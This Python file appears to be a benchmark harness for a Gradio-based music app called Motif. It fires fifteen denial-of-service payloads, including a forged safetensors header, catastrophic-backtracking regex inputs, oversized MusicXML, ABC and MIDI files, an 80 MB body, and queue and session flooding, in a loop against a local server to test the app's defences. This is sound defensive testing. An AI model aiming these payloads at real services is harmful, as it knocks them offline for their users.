"""The attacks that `bench/defences.py` fires, one function each: what froze, filled or killed an earlier Motif.

    python bench/attacks.py ADDRESS NAME TAKE.json CHECKPOINT

fires one over and over, on two lines at once, until it is ended. It speaks plain HTTP, as an attacker does, from an
address of its own where the system has one (127.0.0.2).
"""

from __future__ import annotations

import http.client
import io
import json
import os
import struct
import sys
import time
import uuid
import zipfile
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

_LINES = 2
_HEAD = "X:1\nT:t\nM:4/4\nL:1/8\nK:C\n"


@dataclass(frozen=True)
class Target:
    """The server, a take as the browser keeps it, a true checkpoint, and the number of the takes' panel."""

    port: int
    take: dict[str, Any]
    checkpoint: bytes
    panel: int
    press: int
    inputs: list[Any]

    def send(self, path: str, body: bytes, kind: str = "application/json", method: str = "POST") -> bytes:
        """One request, and the answer as far as it comes within a minute."""
        line = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60, source_address=_source())
        try:
            line.request(method, f"/gradio_api/{path}", body, {"Content-Type": kind})
            return line.getresponse().read()
        except (OSError, http.client.HTTPException):
            return b"{}"
        finally:
            line.close()

    def upload(self, data: bytes, name: str) -> str:
        """Where the server put a file."""
        mark = uuid.uuid4().hex
        head = f'--{mark}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n\r\n'
        body = head.encode() + data + f"\r\n--{mark}--\r\n".encode()
        told = json.loads(self.send("upload", body, f"multipart/form-data; boundary={mark}") or b"[]")
        return str(told[0]) if isinstance(told, list) and told else ""

    def ask(self, name: str, **data: Any) -> None:
        """A question between presses, of a session made up for it."""
        asked = {"component_id": self.panel, "fn_name": name, "data": data, "session_hash": uuid.uuid4().hex}
        self.send("component_server", json.dumps(asked).encode())

    def call(self, endpoint: str, data: bytes, name: str, *more: Any) -> None:
        """An endpoint for programs, with a file, to its end."""
        file = {"path": self.upload(data, name), "meta": {"_type": "gradio.FileData"}}
        told = json.loads(self.send(f"call/{endpoint}", json.dumps({"data": [file, *more]}).encode()) or b"{}")
        if isinstance(told, dict) and "event_id" in told:
            self.send(f"call/{endpoint}/{told['event_id']}", b"", method="GET")

    def joined(self) -> None:
        """A press of Compose that nobody listens to."""
        press = {"fn_index": self.press, "data": self.inputs, "session_hash": uuid.uuid4().hex}
        self.send("queue/join", json.dumps(press).encode())


def _source() -> tuple[str, int] | None:
    return ("127.0.0.2", 0) if sys.platform == "linux" else None


def _xml(inside: str, title: str = "") -> bytes:
    measure = "<note><pitch><step>C</step><octave>4</octave></pitch><duration>4</duration></note>"
    bars = f'<measure number="1">{inside}{measure}</measure><measure number="2">{measure}</measure>'
    parts = '<part-list><score-part id="P1"><part-name>x</part-name></score-part></part-list>'
    return f'<score-partwise>{title}{parts}<part id="P1">{bars}</part></score-partwise>'.encode()


def _mxl(text: bytes) -> bytes:
    held = io.BytesIO()
    zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED).writestr("a.xml", text)
    return held.getvalue()


def _midi(events: bytes) -> bytes:
    track = events + b"\0\xff\x2f\0"
    return b"MThd" + struct.pack(">IHHH", 6, 1, 1, 480) + b"MTrk" + struct.pack(">I", len(track)) + track


def network_of_ones_own(target: Target) -> None:
    """D1: an upload whose card claims a large network."""
    raw = target.checkpoint
    size = struct.unpack("<Q", raw[:8])[0]
    card = json.loads(json.loads(raw[8 : 8 + size])["__metadata__"]["card"])
    card["settings"]["hidden"] = 8_000
    header = {"__metadata__": {"card": json.dumps(card)}, "x": {"dtype": "F16", "shape": [1], "data_offsets": [0, 2]}}
    head = json.dumps(header).encode()
    path = target.upload(struct.pack("<Q", len(head)) + head + b"\0\0", "evil.safetensors")
    for name in ("plane", "hear"):
        target.ask(name, take={**target.take, "recipe": {**target.take["recipe"], "checkpoint": path}})


def regular_expression(target: Target) -> None:
    """D2: a text that an old regular expression searched in its square, plain and packed."""
    target.call("read", b"<a " + b"ending " * 11_428, "x.xml")
    target.call("read", _mxl(b"<a " + b"ending " * 1_000_000), "x.mxl")


def long_key(target: Target) -> None:
    """D3: a key of 40,000 spaces."""
    target.ask("spoken", take={**target.take, "score": {**target.take["score"], "key": "C" + " " * 40_000 + "x"}})


def long_title(target: Target) -> None:
    """D4: a title of 80,000 combining marks, in a file and in a take."""
    title = "a" + "\u0300\u0316" * 40_000
    target.call("read", _xml("", f"<movement-title>{title}</movement-title>"), "x.xml")
    target.ask("file", kind="mid", take={**target.take, "seed": {**target.take["seed"], "title": title}})


def dear_values(target: Target) -> None:
    """D5 and D13: values and elements of MusicXML that cost."""
    attributes = "<attributes><divisions>1</divisions>{}</attributes>"
    for beats in ("999999999", "1" + "+1" * 3_000):
        time_ = f"<time><beats>{beats}</beats><beat-type>4</beat-type></time>"
        target.call("read", _xml(attributes.format(time_)), "x.xml")
    target.call("read", _xml(attributes.format("<key><fifths>1000000000</fifths></key>")), "x.xml")
    for element in ("<accent/>" * 400_000, "<sound/>" * 350_000, "<credit/>" * 150_000):
        target.call("read", _mxl(_xml(element)), "x.mxl")


def slow_mixer(target: Target) -> None:
    """D6: a minute of music, and a mixer's tempo that makes it fifty."""
    notes = [[0, 60, 24, 80], [23_976, 60, 24, 80]]
    score = {"title": "x", "key": None, "metres": [[0, 64, 1]], "tempos": [[0, 60_000]]}
    score["voices"] = [{"name": "v", "program": 0, "drums": False, "notes": notes}]
    take = {**target.take, "score": score, "fresh": [], "new_from": 0, "bars": 1}
    for tempo in (20, 60):  # refused, and sixteen minutes, which are not
        target.ask("sound", take=take, mix={"faders": [], "tempo": tempo, "shade": 0, "swing": 0})


def many_files(target: Target) -> None:
    """D7 and D17: files on request, one after the other."""
    for kind in ("wav", "zip", "flac"):
        target.ask("file", take=target.take, kind=kind)


def _of_notes(target: Target, count: int, voices: int = 1) -> dict[str, Any]:
    notes = [[12 * n, 60 + n * 7 % 12, 12, 80] for n in range(count)]
    voice = {"name": "v", "program": 0, "drums": False, "notes": notes}
    score = {**target.take["score"], "voices": [voice] * voices, "tempos": [[0, 60_000]]}
    return {**target.take, "score": score, "fresh": [], "new_from": 0, "bars": 1}


def much_at_once(target: Target) -> None:
    """D8: forty questions for notation at once, and stems of 64 voices."""
    with ThreadPoolExecutor(40) as crowd:
        list(crowd.map(lambda _: target.ask("notation", take=_of_notes(target, 600), width=800), range(40)))
        target.ask("file", take=_of_notes(target, 100, 64), kind="zip")


def unheard_presses(target: Target) -> None:
    """D9: thirty presses of Compose that nobody listens to."""
    for _ in range(30):
        target.joined()


def unfolding(target: Target) -> None:
    """D10: repeats within repeats."""
    forward, backward = '<barline><repeat direction="forward"/></barline>', '<barline><repeat direction="backward" {}/>'
    measure = "<measure>{}<note><pitch><step>C</step><octave>4</octave></pitch><duration>4</duration></note></measure>"
    for depth, times in ((20, ""), (8, 'times="9"')):
        bars = measure.format(forward) * depth + measure.format(backward.format(times) + "</barline>") * depth
        parts = '<part-list><score-part id="P1"/></part-list>'
        target.call("read", f'<score-partwise>{parts}<part id="P1">{bars}</part></score-partwise>'.encode(), "x.xml")


def short_abc(target: Target) -> None:
    """D11, D12 and D22: ABC of few bytes."""
    bodies = [
        *("a999|bcd|", "a99999|", "|:abcd|1 abcd:|2 abcd:|3 abcd:|4 abcd:|" * 10, "a|" + "z" * 4_000 + "|"),
        *("(a " * 700 + "b) " * 700, "a|" + "Z64|" * 300, "[" * 28_000, "[K:" * 9_300),
    ]
    texts = [*(_HEAD + body for body in bodies), "X:1\nM:4/4\nL:99999/1\nK:C\nabcd|"]
    texts.append("X:1\nM:4" + " " * 28_000 + "x\nK:C\na|")
    for text in texts:
        target.call("read", text.encode(), "x.abc")


def many_tempos(target: Target) -> None:
    """D14: eight thousand changes of tempo in a file, a thousand in a take that is shown."""
    changes = (b"\x14\xff\x51\3" + struct.pack(">I", 400_000 + i % 2 * 1_000)[1:] for i in range(8_000))
    target.call("read", _midi(b"\0\x90\x3c\x40\x83\x60\x80\x3c\0" + b"".join(changes)), "x.mid")
    score = {**target.take["score"], "tempos": [[n, 400_000] for n in range(1_000)]}
    target.ask("spoken", take={**target.take, "score": score})


def many_sessions(target: Target) -> None:
    """D15: a session made up for every question."""
    for _ in range(100):
        target.ask("suggest")


def large_body(target: Target) -> None:
    """D16: a body of 80 MB, and one that is just small enough."""
    target.send("component_server", b'{"data": [' + b"[0.5]," * 13_000_000 + b"0]}")
    target.ask("suggest", taste={"likes": [[0.5] * 8] * 100_000})


def long_work(target: Target) -> None:
    """D18: nineteen thousand notes to harmonise, and to compare with what was learned."""
    note = b"\x00\x90\x3c\x40\x14\x80\x3c\0"
    file = _midi(note * 19_000)
    settings = [
        "transformer",
        "harmonise",
        64,
        0.9,
        0.9,
        0,
        "auto",
        0,
        "",
        0,
        0,
        -1,
        "",
        "",
        "",
        0,
        "",
        "",
        "",
        "",
        0.5,
    ]
    with ThreadPoolExecutor(2) as lines:
        lines.submit(target.call, "compose", file, "x.mid", *settings, 4, "kesh_jig", None)
        lines.submit(target.call, "originality", file, "x.mid", "")


ATTACKS: dict[str, Callable[[Target], None]] = {
    "D1 network of one's own": network_of_ones_own,
    "D2 regular expression": regular_expression,
    "D3 long key": long_key,
    "D4 long title": long_title,
    "D5, D13 dear values": dear_values,
    "D6 slow mixer": slow_mixer,
    "D7, D17 many files": many_files,
    "D8 much at once": much_at_once,
    "D9 unheard presses": unheard_presses,
    "D10 unfolding": unfolding,
    "D11, D12 short ABC": short_abc,
    "D14 many tempos": many_tempos,
    "D15 many sessions": many_sessions,
    "D16 large body": large_body,
    "D18 long work": long_work,
}


def main() -> None:
    """Fire one attack until this process is ended."""
    os.nice(15)  # an attacker's own work is done elsewhere
    address, name, take, checkpoint = sys.argv[1:]
    port = int(address.rstrip("/").rsplit(":", 1)[1])
    line = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
    line.request("GET", "/config")
    config = json.loads(line.getresponse().read())
    values = {part["id"]: part["props"].get("value") for part in config["components"]}
    press = next(d for d in config["dependencies"] if d["api_name"] == "press_compose")
    panel = next(part["id"] for part in config["components"] if part["props"].get("elem_id") == "takes")
    inputs = [values[number] for number in press["inputs"]]
    kept = json.loads(Path(take).read_text("utf-8"))
    target = Target(port, kept, Path(checkpoint).read_bytes(), panel, press["id"], inputs)
    with ThreadPoolExecutor(_LINES) as lines:
        for _ in range(_LINES):
            lines.submit(_fire, name, target)


def _fire(name: str, target: Target) -> None:
    while True:
        ATTACKS[name](target)
        print("fired", flush=True)
        time.sleep(0.05)


if __name__ == "__main__":
    main()
